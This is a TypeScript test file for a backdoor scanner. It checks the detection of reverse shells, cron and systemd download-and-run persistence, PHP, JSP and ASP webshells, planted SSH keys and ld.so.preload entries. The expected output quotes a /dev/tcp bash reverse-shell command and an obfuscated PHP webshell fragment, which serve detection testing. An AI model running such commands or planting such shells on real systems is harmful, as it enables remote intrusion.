import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { analyzeFiles } from '../../../../test/support/analyze-files.js';
import { backdoorAnalyzer } from './index.js';
import { parsePatterns } from './patterns.js';

const fixture = (name: string): Buffer => readFileSync(new URL(`./testdata/${name}`, import.meta.url));
const scan = (files: { path: string; content: Buffer | string; mode?: number }[]) => analyzeFiles([backdoorAnalyzer], files);
type F = Awaited<ReturnType<typeof scan>>['findings'][number];
const summary = (findings: F[]) =>
  findings
    .map((f) => [f.rule, f.path, f.evidence?.host, f.evidence?.port, f.evidence?.line] as const)
    .sort((a, b) => `${a[1]}:${String(a[4]).padStart(4)}`.localeCompare(`${b[1]}:${String(b[4]).padStart(4)}`));

describe('reverse shells', () => {
  it('finds a /dev/tcp shell in a crontab, with host, port, line and place', async () => {
    const { findings } = await scan([{ path: 'etc/cron.d/sync', content: fixture('crontab-reverse-shell') }]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({
      category: 'backdoor',
      severity: 'critical',
      rule: 'backdoor/reverse-shell-dev-tcp',
      path: 'etc/cron.d/sync',
      title: 'Reverse shell over /dev/tcp to 203.0.113.7:4444 in crontab',
      attack: ['T1059.004', 'T1053.003'],
    });
    expect(findings[0]!.evidence).toMatchObject({ where: 'crontab', host: '203.0.113.7', port: 4444, line: 4 });
    expect(findings[0]!.evidence!.excerpt).toContain("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1");
  });

  it('finds the mkfifo netcat shell of an entrypoint but not its port probes', async () => {
    const { findings } = await scan([{ path: 'usr/local/bin/docker-entrypoint.sh', content: fixture('docker-entrypoint.sh'), mode: 0o755 }]);
    expect(summary(findings)).toEqual([['backdoor/reverse-shell-netcat', 'usr/local/bin/docker-entrypoint.sh', '203.0.113.9', 9001, 6]]);
    expect(findings[0]!.severity).toBe('critical');
  });

  it('finds netcat, socat, awk, telnet and openssl shells in shell history', async () => {
    const { findings } = await scan([{ path: 'root/.bash_history', content: fixture('bash_history') }]);
    expect(summary(findings)).toEqual([
      ['backdoor/reverse-shell-netcat', 'root/.bash_history', '203.0.113.10', 4445, 3],
      ['backdoor/reverse-shell-socat', 'root/.bash_history', '203.0.113.11', 4446, 4],
      ['backdoor/reverse-shell-awk', 'root/.bash_history', '203.0.113.12', 4447, 5],
      ['backdoor/reverse-shell-telnet', 'root/.bash_history', '203.0.113.13', 4448, 6],
      ['backdoor/reverse-shell-openssl', 'root/.bash_history', '203.0.113.14', 4449, 7],
      ['backdoor/reverse-shell-dev-tcp', 'root/.bash_history', '203.0.113.25', 4456, 9],
    ]);
    expect(findings.every((f) => f.severity === 'high' && f.evidence!.where === 'history')).toBe(true);
  });

  it('finds Python, Perl, PHP, Ruby and PowerShell shells', async () => {
    const { findings } = await scan([
      { path: 'opt/tools/shell.py', content: fixture('shell.py') },
      { path: 'opt/tools/oneliners.sh', content: fixture('oneliners.sh') },
      { path: 'opt/tools/rev.ps1', content: fixture('rev.ps1') },
    ]);
    expect(summary(findings)).toEqual([
      ['backdoor/reverse-shell-python', 'opt/tools/oneliners.sh', '203.0.113.16', 4451, 2],
      ['backdoor/reverse-shell-perl', 'opt/tools/oneliners.sh', undefined, undefined, 3],
      ['backdoor/reverse-shell-php', 'opt/tools/oneliners.sh', '203.0.113.18', 4453, 4],
      ['backdoor/reverse-shell-ruby', 'opt/tools/oneliners.sh', '203.0.113.19', 4454, 5],
      ['backdoor/reverse-shell-powershell', 'opt/tools/rev.ps1', '203.0.113.20', 4455, 1],
      ['backdoor/reverse-shell-python', 'opt/tools/shell.py', undefined, undefined, 10],
    ]);
    expect(findings.find((f) => f.rule === 'backdoor/reverse-shell-powershell')!.attack).toEqual(['T1059.001']);
  });

  it('leaves benign look-alikes alone: port probes, HTTP over /dev/tcp, nc -z, socat forwarding, plain clients', async () => {
    const { findings } = await scan([
      { path: 'usr/local/bin/benign-network.sh', content: fixture('benign-network.sh'), mode: 0o755 },
      { path: 'app/client.py', content: fixture('client.py') },
    ]);
    expect(findings).toEqual([]);
  });
});

describe('backdoor/persistence-download-exec', () => {
  it('finds download-and-run lines in crontabs and systemd units', async () => {
    const { findings } = await scan([
      { path: 'etc/cron.d/update', content: fixture('cron-download-exec') },
      { path: 'etc/systemd/system/update.service', content: fixture('update.service') },
    ]);
    expect(summary(findings).map(([rule, path, , , line]) => [rule, path, line])).toEqual([
      ['backdoor/persistence-download-exec', 'etc/cron.d/update', 2],
      ['backdoor/persistence-download-exec', 'etc/cron.d/update', 3],
      ['backdoor/persistence-download-exec', 'etc/cron.d/update', 4],
      ['backdoor/persistence-download-exec', 'etc/systemd/system/update.service', 6],
    ]);
    expect(findings.every((f) => f.severity === 'high')).toBe(true);
    const systemd = findings.find((f) => f.path === 'etc/systemd/system/update.service')!;
    expect(systemd.attack).toEqual(['T1105', 'T1059.004', 'T1543.002']);
    expect(systemd.evidence!.url).toBe('https://203.0.113.24/s');
  });

  it('does not flag curl | sh outside persistence, nor a unit that only downloads', async () => {
    const { findings } = await scan([
      { path: 'usr/local/bin/benign-network.sh', content: fixture('benign-network.sh'), mode: 0o755 },
      { path: 'etc/systemd/system/web.service', content: fixture('benign.service') },
    ]);
    expect(findings).toEqual([]);
  });
});

describe('backdoor/webshell', () => {
  const webshells = ['one-liner.php', 'layered.php', 'tainted.php', 'variable-function.php', 'preg-e.php', 'header.php', 'cmd.jsp', 'shell.aspx', 'eval.asp', 'raw-body.php'];
  it.each(webshells)('finds %s', async (name) => {
    const { findings } = await scan([{ path: `var/www/html/${name}`, content: fixture(`web/${name}`) }]);
    expect(findings.map((f) => [f.rule, f.category, f.severity])).toEqual([['backdoor/webshell', 'backdoor', 'critical']]);
    expect(findings[0]!.attack).toEqual(['T1505.003']);
    expect(findings[0]!.evidence!.line).toBeGreaterThan(0);
  });

  it('names the sink and the layers', async () => {
    const { findings } = await scan([{ path: 'var/www/html/x.php', content: fixture('web/layered.php') }]);
    expect(findings[0]!.title).toBe('Webshell: PHP page passes request input to assert');
    expect(findings[0]!.evidence!.excerpt).toContain('gzinflate(base64_decode(str_rot13($_COOKIE');
  });

  it('does not flag eval of own data, SQL through PDO, or fixed commands', async () => {
    const { findings } = await scan([
      { path: 'var/www/html/benign-eval.php', content: fixture('web/benign-eval.php') },
      { path: 'var/lib/tomcat/webapps/ROOT/index.jsp', content: fixture('web/benign.jsp') },
    ]);
    expect(findings).toEqual([]);
  });

  it('only judges server pages (a PHP snippet in a .txt note is not a page)', async () => {
    const { findings } = await scan([{ path: 'root/notes.txt', content: fixture('web/one-liner.php') }]);
    expect(findings).toEqual([]);
  });
});

describe('backdoor/authorized-keys and backdoor/ld-so-preload', () => {
  it('describes planted keys by type, fingerprint and comment, never the key', async () => {
    const content = fixture('authorized_keys');
    const { findings } = await scan([{ path: 'root/.ssh/authorized_keys', content }]);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ rule: 'backdoor/authorized-keys', severity: 'high', attack: ['T1098.004'], title: 'SSH authorized_keys planted in the image (2 keys)' });
    expect(findings[0]!.evidence).toEqual({
      count: 2,
      keys: [
        { type: 'ssh-ed25519', fingerprint: 'SHA256:s6kD0VABCZf2qU0calMsQvjPdYesWSzAgptVLlRKXSw', comment: 'attacker@example.test', line: 2 },
        { type: 'ssh-rsa', fingerprint: 'SHA256:F0Gec7LqG4lg7nbZBQk1mxhGIdheqGu2vWy91YZiRBg', comment: 'ops key', restricted: true, line: 3 },
      ],
    });
    const blob = content.toString().split('\n')[1]!.split(' ')[1]!;
    expect(JSON.stringify(findings[0])).not.toContain(blob.slice(20, 60));
  });

  it('ignores an authorized_keys file with no key', async () => {
    const { findings } = await scan([{ path: 'home/app/.ssh/authorized_keys', content: '# keys go here\n\nssh-rsa not-base64!!\n' }]);
    expect(findings).toEqual([]);
  });

  it('reports a non-empty /etc/ld.so.preload with its libraries, and not an empty one', async () => {
    const planted = await scan([{ path: 'etc/ld.so.preload', content: fixture('ld.so.preload') }]);
    expect(planted.findings).toHaveLength(1);
    expect(planted.findings[0]).toMatchObject({ rule: 'backdoor/ld-so-preload', severity: 'high', attack: ['T1574.006'] });
    expect(planted.findings[0]!.evidence).toEqual({ libraries: ['/usr/lib/libsystemd-helper.so', '/lib/x86_64-linux-gnu/libprocesshider.so', '/usr/local/lib/libx.so'] });
    const empty = await scan([{ path: 'etc/ld.so.preload', content: fixture('ld.so.preload.empty') }]);
    expect(empty.findings).toEqual([]);
  });
});

describe('hostile input and the pattern file', () => {
  it('survives binary junk, huge lines and pathological repetition', async () => {
    const junk = Buffer.alloc(200_000);
    for (let i = 0; i < junk.length; i++) junk[i] = 1 + ((i * 7919) % 250);
    const started = Date.now();
    const { findings, notices } = await scan([
      { path: 'usr/local/bin/junk', content: junk, mode: 0o755 },
      { path: 'etc/cron.d/huge', content: `${'nc '.repeat(300_000)}\n${'/dev/tcp/'.repeat(100_000)}\n${'curl '.repeat(200_000)}` },
      { path: 'var/www/x.php', content: `<?php ${'eval( '.repeat(100_000)}${'$a = '.repeat(100_000)}` },
      { path: 'usr/bin/elf', content: Buffer.concat([Buffer.from('\x7fELF\0'), fixture('crontab-reverse-shell')]), mode: 0o755 },
    ]);
    expect(notices).toEqual([]);
    expect(findings).toEqual([]);
    expect(Date.now() - started).toBeLessThan(5000);
  });

  it('rejects a broken pattern file naming the file and the pattern', () => {
    expect(() => parsePatterns('patterns:\n  - rule: backdoor/x\n    title: t\n    attack: [T1059]\n    anchor: "("\n', 'p.yaml')).toThrow(/p\.yaml: patterns\.0 \(backdoor\/x\) anchor/);
    expect(() => parsePatterns('patterns: []\n', 'p.yaml')).toThrow(/p\.yaml:1: invalid at patterns: /);
    expect(() => parsePatterns('patterns:\n  - rule: Bad\n', 'p.yaml')).toThrow(/p\.yaml:2: invalid at patterns\.0\.rule: /);
  });
});
